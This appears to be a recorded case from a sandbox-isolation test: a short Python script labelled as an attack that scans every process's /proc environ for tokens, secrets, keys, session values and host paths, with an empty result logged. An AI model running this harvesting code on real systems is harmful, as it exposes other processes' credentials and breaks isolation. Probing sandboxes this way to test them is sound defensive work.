# attack: looks for secrets and paths of the host in the environment of every process
# status: succeeded
# stdout@2: []
import os, re
got = set()
for p in filter(str.isdigit, os.listdir("/proc")):
    try: text = open(f"/proc/{p}/environ").read()
    except OSError: continue
    for variable in text.split("\0"):
        name, _, value = variable.partition("=")
        if re.search("TOKEN|SECRET|KEY|REDIS|SESSION|LISTEN|LIFELINE|npm_|ENVIRONMENT_FILE", name) or ".runlang" in value or "/node_modules" in value:
            got.add(name)
print(sorted(got))
